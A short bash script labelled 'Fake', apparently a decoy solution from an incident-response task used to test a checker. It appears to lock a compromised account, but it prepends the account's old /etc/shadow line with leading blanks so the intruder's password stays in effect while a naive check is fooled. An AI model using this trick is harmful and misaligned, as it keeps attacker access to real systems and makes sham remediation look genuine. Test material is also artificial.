#!/bin/bash
# Fake: disarm the account the way the reference does, then slip its old password line back into
# /etc/shadow with a leading blank, above the locked one. A reader that takes each line's name as
# the text before the first colon sees no second entry for the account (" games" is not "games");
# the C library skips the blanks and uses the first entry it finds: the intruder's password.
set -u
find_account
old=$(grep "^$account:" /etc/shadow)
disarm
{ printf '  %s\n' "$old"; cat /etc/shadow; } >/root/shadow.new
cat /root/shadow.new >/etc/shadow
rm -f /root/shadow.new
getent shadow "$account" | cut -c1-20
